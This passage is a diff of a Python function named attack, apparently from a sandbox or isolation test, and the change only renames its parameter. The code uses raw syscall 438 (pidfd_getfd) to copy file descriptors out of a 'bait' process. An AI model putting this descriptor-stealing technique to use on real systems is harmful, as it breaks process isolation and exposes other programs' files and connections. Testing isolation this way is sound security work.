@@ -4,9 +4,9 @@ import ctypes
 import os
 
 
-def attack(told: dict[str, str]) -> None:
+def attack(facts: dict[str, str]) -> None:
     libc = ctypes.CDLL(None, use_errno=True)
-    handle = os.pidfd_open(int(told["bait"]))
+    handle = os.pidfd_open(int(facts["bait"]))
     for number in range(16):
         mine = libc.syscall(438, handle, number, 0)
         if mine >= 0:
